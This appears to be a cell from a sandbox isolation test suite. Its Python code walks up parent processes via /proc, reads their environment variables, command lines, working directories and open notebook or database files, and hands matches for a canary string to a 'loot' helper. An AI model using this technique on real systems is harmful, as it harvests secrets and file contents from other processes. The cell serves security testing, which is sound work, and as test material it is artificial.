# idea: The parent processes are read through /proc: environment, command, folder, open files, memory maps.
# aims at: leak
# %% before t01
#@ground
pid, told = os.getppid(), []
for _ in range(6):
    for name in ("environ", "cmdline", "cwd", "root", "status"):
        place = f"/proc/{pid}/{name}"
        try:
            text = os.readlink(place) if name in ("cwd", "root") else open(place).read()
            # What is no canary may be a true secret of whoever runs the tests.
            told += [part[:500] for part in text.split("\0") if "mwcanary" in part or name == "cwd"]
        except OSError as error:
            told.append(str(error))
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            if os.readlink(f"/proc/{pid}/fd/{number}").endswith((".ipynb", ".db")):
                with open(f"/proc/{pid}/fd/{number}", "rb") as file:
                    text = file.read(500_000).decode(errors="replace")
                told += [text] if "mwcanary" in text else []
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(") ", 1)[1].split()[1])
    except OSError as error:
        told.append(str(error))
    if pid <= 1:
        break
loot("\n".join(told))
